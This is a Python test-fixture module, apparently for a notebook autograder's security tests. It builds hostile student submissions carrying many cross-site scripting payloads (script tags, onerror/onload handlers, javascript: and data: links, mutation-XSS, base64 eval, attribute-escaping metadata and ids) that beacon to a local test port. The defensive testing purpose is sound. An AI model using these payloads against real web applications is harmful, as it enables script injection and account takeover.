"""Hostile submissions aimed at the instructor's browser: script in what grading shows.

Each tries, wherever a page could show it (the formgrader's lists and submission
page, the feedback HTML, report.html), to run script as the instructor and to make
a request: every payload sets `window.__ckl_pwned` (to its tag), calls `alert`, and
fetches `http://127.0.0.1:@PORT@/TAG` (a port the test listens on). The payloads
carry no `/` (written `\\x2f` inside JavaScript strings) so that one also fits in a
student id, which is a folder name.

All answers are the reference's (or, for the layer names, a known wrong answer), so
the scores are those an honest grader gives; `tests/browser/test_browser_web_attacks.py`
grades these and opens every page in Chromium; the hostile-submission suite grades
them with the others (score, containment).
"""

from __future__ import annotations

import base64

import nbformat
from attacks import FULL, POINTS, REF, T1, T2, Attack, code

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="


def js(tag: str) -> str:
    """JavaScript that marks the page as taken and calls out (no `/`, no double quote)."""
    return (
        f"window.__ckl_pwned='{tag}';alert('{tag}');"
        f"fetch('http:\\x2f\\x2f127.0.0.1:@PORT@\\x2f{tag}')"
    )


def js_b64(tag: str) -> str:
    """The same, for unquoted attribute values: no space, no quote of its own."""
    encoded = base64.b64encode(js(tag).encode()).decode()
    return f"eval(atob(`{encoded}`))"


def _pyrepr(text: str) -> str:
    return repr(text)


def _displays(pairs: list[tuple[str, str]]) -> str:
    """Answer-cell lines that display each (kind, payload) when the cell runs."""
    lines = ["from IPython.display import display, HTML, Javascript, SVG, Markdown, Latex"]
    for kind, payload in pairs:
        lines.append(f"display({kind}({_pyrepr(payload)}))")
    return "\n".join(lines) + "\n"


HTML_OUTPUTS = _displays(
    [
        ("HTML", f'<img src=x onerror="{js("html-img")}">'),
        ("HTML", f"<script>{js('html-script')}</script>"),
        ("HTML", f'<svg onload="{js("html-svg")}"><circle r="5"/></svg>'),
        ("HTML", f'<iframe srcdoc="<script>{js("html-iframe")}</script>"></iframe>'),
        ("HTML", '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:@PORT@/refresh">'),
        ("HTML", "<style>body{background:url(http://127.0.0.1:@PORT@/style)}</style>"),
        ("HTML", f'<a href="javascript:{js("html-href")}">a link</a>'),
        ("HTML", "<a href=\"data:text/html,<script>alert('data')</script>\">data link</a>"),
        ("HTML", "<img src=x onerror=&#x77;indow.__ckl_pwned=&#x27;html-entity&#x27;>"),
        ("HTML", "<img src=http://127.0.0.1:@PORT@/img-remote>"),
        ("HTML", f'<object data="javascript:{js("html-object")}"></object>'),
        ("HTML", f'<details open ontoggle="{js("html-details")}"><summary>s</summary></details>'),
        ("HTML", f'<form action="javascript:{js("html-form")}"><button>go</button></form>'),
        ("HTML", "<base href=http://127.0.0.1:@PORT@/base/><img src=relative.png>"),
        (
            "HTML",
            f'<math><mtext><table><mglyph><style><img src=x onerror="{js("html-mxss")}">',
        ),
        (
            "HTML",
            f'<noscript><p title="</noscript><img src=x onerror={js_b64("html-noscript")}>">',
        ),
    ]
)
OTHER_OUTPUTS = (
    _displays(
        [
            ("Javascript", js("js-output")),
            ("SVG", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("svg")}"/>'),
            (
                "Markdown",
                f'<img src=x onerror="{js("md-output")}"> [x](javascript:{js("md-link")})',
            ),
            ("Latex", f"</div><script>{js('latex')}</script>"),
        ]
    )
    + code(
        f"""
        display({{"application/javascript": {js("raw-js")!r}}}, raw=True)
        display({{"text/html": "<b>html</b><script>{js("raw-html")}</script>",
                  "application/vnd.jupyter.widget-view+json": {{"model_id": "x"}},
                  "text/plain": "a widget"}}, raw=True)
        display({{"image/png": {PNG!r}, "text/plain": "a figure"}}, raw=True,
                metadata={{"image/png": {{"width": "1 onerror={js_b64("png-width")}",
                                         "height": "2 onload={js_b64("png-height")}"}}}})
        display({{"text/html": "<p>isolated</p>"}}, raw=True,
                metadata={{"text/html": {{"isolated": True}}}})
        display({{"image/png": "x\\" onerror=\\"{js("png-data")}"}}, raw=True)
        """
    )
    + f"HTML({js('execute-result')!r}.join(['<img src=x onerror=\"', '\">']))\n"
)
MARKDOWN_CELLS = [
    f"# Notes\n\n<script>{js('md-script')}</script>\n",
    f'<img src=x onerror="{js("md-img")}">\n',
    f"[click me](javascript:{js('md-js-link')}) and [data](data:text/html;base64,PHNjcmlwdD4=)\n",
    "![remote](http://127.0.0.1:@PORT@/md-remote.png)\n",
    f'<iframe srcdoc="<script>{js("md-iframe")}</script>"></iframe>\n',
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:@PORT@/md-refresh">\n',
    "<style>body{background-image:url(http://127.0.0.1:@PORT@/md-style)}</style>\n",
    f"&lt;script&gt;{js('md-entity')}&lt;/script&gt; and <svg><script>{js('md-svg')}</script></svg>\n",
    f'<a href="data:text/html,&lt;script&gt;{js("md-data")}&lt;/script&gt;">data link</a>\n',
    f"```html\n<script>{js('md-code')}</script>\n```\n",
    "[my notes](notes.html)\n",
]


def _hostile_notebook(nb) -> None:
    """Markdown and raw cells of the student's own, hostile metadata, an attachment."""
    cells = [nbformat.v4.new_markdown_cell(text) for text in MARKDOWN_CELLS]
    attached = nbformat.v4.new_markdown_cell("![a](attachment:a.html)\n")
    attached["attachments"] = {
        "a.html": {
            "text/html": base64.b64encode(f"<script>{js('attach')}</script>".encode()).decode()
        }
    }
    raw = nbformat.v4.new_raw_cell(f"<script>{js('raw-cell')}</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    cells += [attached, raw]
    for cell in cells:
        cell.metadata["tags"] = [f'x" onmouseover="{js("tag")}']
    nb.cells[1:1] = cells
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {},
            "version_major": 2,
            "version_minor": 0,
        }
    }
    nb.metadata["title"] = f"</title><script>{js('title')}</script>"


# A known wrong answer (Add instead of Concatenate) whose layers carry script as names.
HOSTILE_NAMES = code(
    """
    def build_two_branch_model():
        numbers = keras.Input(shape=(4,), name="numbers")
        text = keras.Input(shape=(6,), name="text")
        a = keras.layers.Dense(8, activation="relu", name=NAME_A)(numbers)
        b = keras.layers.Dense(8, activation="relu", name=NAME_B)(text)
        merged = keras.layers.Add(name=NAME_C)([a, b])
        return keras.Model([numbers, text], keras.layers.Dense(1, name=NAME_D)(merged))
    """
)
NAMES = {
    "NAME_A": f'<img src=x onerror="{js("layer-a")}">',
    "NAME_B": f"<script>{js('layer-b')}</script>",
    "NAME_C": f'x" onmouseover="{js("layer-c")}',
    "NAME_D": f"<svg onload={js_b64('layer-d')}>",
}
for _key, _name in NAMES.items():
    HOSTILE_NAMES = HOSTILE_NAMES.replace(_key, repr(_name))

# A page of the student's own beside the notebook: nbgrader's formgrader serves the
# submission's files from the autograded folder, under the server's origin.
NOTES_HTML = f'<script>{js("file-script")}</script><img src=x onerror="{js("file-img")}">'

ID_IMG = f'<img src=x onerror="{js("id-img")}">'
ID_JS = f'web-id";{js("id-js")};"'

ATTACKS = [
    Attack(
        "web-html-outputs",
        "answer cells display HTML that tries to run script and to call out, 16 ways",
        {**REF, T1: HTML_OUTPUTS + 'print("ckl-web: html shown")\n' + REF[T1]},
        FULL,
        shows=("ckl-web: html shown",),
    ),
    Attack(
        "web-other-outputs",
        "JavaScript, SVG, Markdown, LaTeX and widget outputs; image metadata that escapes its attribute",
        {**REF, T2: OTHER_OUTPUTS + 'print("ckl-web: outputs shown")\n' + REF[T2]},
        FULL,
        shows=("ckl-web: outputs shown",),
    ),
    Attack(
        "web-markdown",
        "Markdown and raw cells of its own with script, links, frames, styles; widget state; tags",
        dict(REF),
        FULL,
        notebook=_hostile_notebook,
        files={"notes.html": NOTES_HTML},
    ),
    Attack(
        "web-layer-names",
        "a wrong answer whose layers are named with script (the names reach messages)",
        {**REF, T1: HOSTILE_NAMES},
        FULL - POINTS[T1],
    ),
    Attack(ID_IMG, "a student id that is an <img onerror>", dict(REF), FULL),
    Attack(ID_JS, "a student id that closes a JavaScript string", dict(REF), FULL),
]
